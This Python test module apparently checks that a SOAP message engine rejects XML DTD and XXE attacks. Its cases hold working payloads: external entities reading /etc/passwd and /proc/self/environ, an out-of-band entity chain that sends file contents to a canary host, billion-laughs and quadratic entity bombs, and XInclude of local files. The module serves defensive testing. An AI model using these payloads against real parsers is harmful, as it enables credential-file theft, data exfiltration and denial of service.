"""DTD and XXE: entities of every kind, inclusions, style sheets; nothing of it may be read or fetched."""

from collections.abc import Iterator

from tests.engine.messages import envelope, ping
from tests.hostile.case import CANARY, HARMLESS, MALFORMED, Case, named

CATEGORY = "DTD and XXE"
_SYSTEM = {
    "file": "file:///etc/passwd",
    "http": f"http://{CANARY}/x.dtd",
    "ftp": f"ftp://{CANARY}/x.dtd",
    "relative": "x.dtd",
    "php": "php://filter/convert.base64-encode/resource=/etc/passwd",
    "jar": f"jar:http://{CANARY}/x.jar!/x",
    "netdoc": "netdoc:///etc/passwd",
    "gopher": f"gopher://{CANARY}/_x",
    "fd": "file:///proc/self/environ",
}
_BOMB = "".join(
    f"<!ENTITY b{level} '{''.join(f'&b{level - 1};' for _ in range(10))}'>" if level else "<!ENTITY b0 'lol'>"
    for level in range(10)
)
_QUADRATIC = f"<!ENTITY a '{'x' * 50_000}'>"


def cases() -> Iterator[Case]:
    """Yield the cases."""
    yield from named(CATEGORY, _doctypes(), settles=False)
    yield from named(CATEGORY, _without_doctype())


def _doctypes() -> Iterator[tuple[str, str, frozenset[str]]]:
    for scheme, address in _SYSTEM.items():
        yield f"external subset {scheme}", f'<!DOCTYPE a SYSTEM "{address}">' + ping(), MALFORMED
        entity = f'<!DOCTYPE a [<!ENTITY x SYSTEM "{address}">]>'
        yield f"external entity {scheme}", entity + ping("&x;"), MALFORMED
        yield f"parameter entity {scheme}", f'<!DOCTYPE a [<!ENTITY % x SYSTEM "{address}">%x;]>' + ping(), MALFORMED
        yield f"entity in an attribute {scheme}", entity + envelope("<t:Ping a='&x;'/>"), MALFORMED
    out_of_band = (
        f'<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % all "<!ENTITY s SYSTEM \'http://{CANARY}/?%f;\'>">%all;'
    )
    declared = {
        "unused": "<!DOCTYPE a>",
        "empty subset": "<!DOCTYPE a []>",
        "public": f'<!DOCTYPE a PUBLIC "-//X//Y" "http://{CANARY}/x.dtd">',
        "internal entity": "<!DOCTYPE a [<!ENTITY x 'y'>]>",
        "laughs": f"<!DOCTYPE a [{_BOMB}]>",
        "quadratic": f"<!DOCTYPE a [{_QUADRATIC}]>",
        "recursive": "<!DOCTYPE a [<!ENTITY x '&y;'><!ENTITY y '&x;'>]>",
        "parameter bomb": "<!DOCTYPE a [<!ENTITY % x '%x;%x;'>%x;]>",
        "out of band": f"<!DOCTYPE a [{out_of_band}]>",
        "notation": f'<!DOCTYPE a [<!NOTATION n SYSTEM "http://{CANARY}/">]>',
        "unparsed entity": f'<!DOCTYPE a [<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "http://{CANARY}/" NDATA n>]>',
        "default attribute": "<!DOCTYPE a [<!ATTLIST a b CDATA 'c'>]>",
        "element": "<!DOCTYPE a [<!ELEMENT a ANY>]>",
        "cut off": "<!DOCTYPE a [",
        "long name": f"<!DOCTYPE {'a' * 60_000}>",
        "lower case": "<!doctype a>",
    }
    uses = {"laughs": "&b9;", "quadratic": "&a;" * 1_000, "recursive": "&x;", "internal entity": "&x;"}
    for name, doctype in declared.items():
        yield name, doctype + ping(uses.get(name, "hello")), MALFORMED | {"LIMIT_EXCEEDED"}
        yield (
            f"{name} after a comment",
            "<?xml version='1.0'?><!-- c -->" + doctype + ping(),
            (MALFORMED | {"LIMIT_EXCEEDED"}),
        )
    yield "in the middle", envelope("<!DOCTYPE a><t:Ping/>"), MALFORMED
    yield "at the end", ping() + "<!DOCTYPE a>", MALFORMED


def _without_doctype() -> Iterator[tuple[str, str, frozenset[str]]]:
    yield "undeclared entity", ping("&x;"), MALFORMED
    yield "html entity", ping("&nbsp;"), MALFORMED
    xinclude = f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="http://{CANARY}/" parse="text"/>'
    yield "XInclude", envelope(f"<t:Ping><t:text>{xinclude}</t:text></t:Ping>"), frozenset({"INVALID_MESSAGE"})
    yield (
        "XInclude of a file",
        envelope(xinclude.replace(f"http://{CANARY}/", "file:///etc/passwd")),
        (frozenset({"UNKNOWN_OPERATION"})),
    )
    yield "style sheet", f'<?xml-stylesheet href="http://{CANARY}/x.xsl" type="text/xsl"?>' + ping(), HARMLESS
    located = f'xsi:schemaLocation="urn:soapdesk:v1 http://{CANARY}/x.xsd"'
    yield "schema location", envelope(f"<t:Ping {located}><t:text>x</t:text></t:Ping>"), HARMLESS
    nowhere = f'xsi:noNamespaceSchemaLocation="http://{CANARY}/x.xsd"'
    yield "schema without namespace", envelope(f"<t:Ping {nowhere}><t:text>x</t:text></t:Ping>"), HARMLESS
    yield (
        "xml:base",
        envelope(f'<t:Ping xml:base="http://{CANARY}/"><t:text>x</t:text></t:Ping>'),
        frozenset({"INVALID_MESSAGE"}),
    )
    yield "namespace that is an address", ping().replace("xmlns:t=", f'xmlns:z="http://{CANARY}/" xmlns:t='), HARMLESS
